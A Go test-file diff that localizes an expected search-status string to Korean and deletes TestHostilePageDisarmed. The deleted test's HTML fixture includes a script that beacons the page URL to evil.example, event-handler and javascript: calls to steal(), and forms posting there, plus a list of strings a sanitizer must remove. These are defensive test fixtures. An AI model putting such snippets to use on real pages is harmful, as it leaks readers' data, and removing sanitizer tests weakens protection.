@@ -251,42 +251,9 @@ func TestBrowser(t *testing.T) {
 	}
 	cctx, ccancel := context.WithTimeout(sctx, 20*time.Second)
 	defer ccancel()
-	if err := chromedp.Do(cctx, chromedp.WaitVisible(`//*[@id="status"][contains(., "Nothing found")]`)); err != nil {
+	if err := chromedp.Do(cctx, chromedp.WaitVisible(`//*[@id="status"][contains(., "찾은 것이 없습니다")]`)); err != nil {
 		status, _ := chromedp.Run(sctx, chromedp.Text(`#status`))
 		t.Fatalf("search for constructor: status %q: %v", status, err)
 	}
 	t.Logf("without JS: index → titles → article with %d images; with JS: 인권 → %s", imgs, href)
-}
-
-// TestHostilePageDisarmed: a page opened from file:// has no content
-// security policy, so the export drops what would run or load from outside
-// by itself; local links and outside links a reader clicks stay.
-func TestHostilePageDisarmed(t *testing.T) {
-	page := `<!DOCTYPE html><html><head><base href="http://evil.example/">
-<meta http-equiv="refresh" content="0;url=http://evil.example/?x">
-<link rel="preconnect" href="//upload.example.org"><link rel="stylesheet" href="style.css">
-<style>@import "http://evil.example/a.css"; body{background:url(http://evil.example/b.png)} p{background:url(img.png)}</style>
-<script>new Image().src="http://evil.example/?"+location.href</script></head>
-<body onload="steal()"><img src="//evil.example/pixel" srcset="//evil.example/a 2x, img.png 1x"><img src="img.png" onerror="x()">
-<iframe src="http://evil.example/"><p>inside</p></iframe><object data="http://evil.example/o"></object>
-<a href="http://example.org/more">more</a> <a href="javascript:steal()">js</a> <a href="other.html">other</a>
-<form action="http://evil.example/f"><input formaction="http://evil.example/g"></form>
-<div style="background:url('//evil.example/c.png')">x</div></body></html>`
-	link := func(u string) (string, bool) {
-		if u == "style.css" || u == "img.png" || u == "other.html" {
-			return "L-" + u, true
-		}
-		return "", false
-	}
-	got := string(rewriteHTML([]byte(page), link))
-	for _, bad := range []string{"evil.example", "<script", "onload", "onerror", "<iframe", "<object", "<base", "refresh", "upload.example", "javascript:", "inside"} {
-		if strings.Contains(got, bad) {
-			t.Errorf("%q left in:\n%s", bad, got)
-		}
-	}
-	for _, good := range []string{`href="L-style.css"`, `src="L-img.png"`, `srcset="L-img.png 1x"`, `url("L-img.png")`, `href="http://example.org/more"`, `href="L-other.html"`} {
-		if !strings.Contains(got, good) {
-			t.Errorf("%q missing:\n%s", good, got)
-		}
-	}
 }
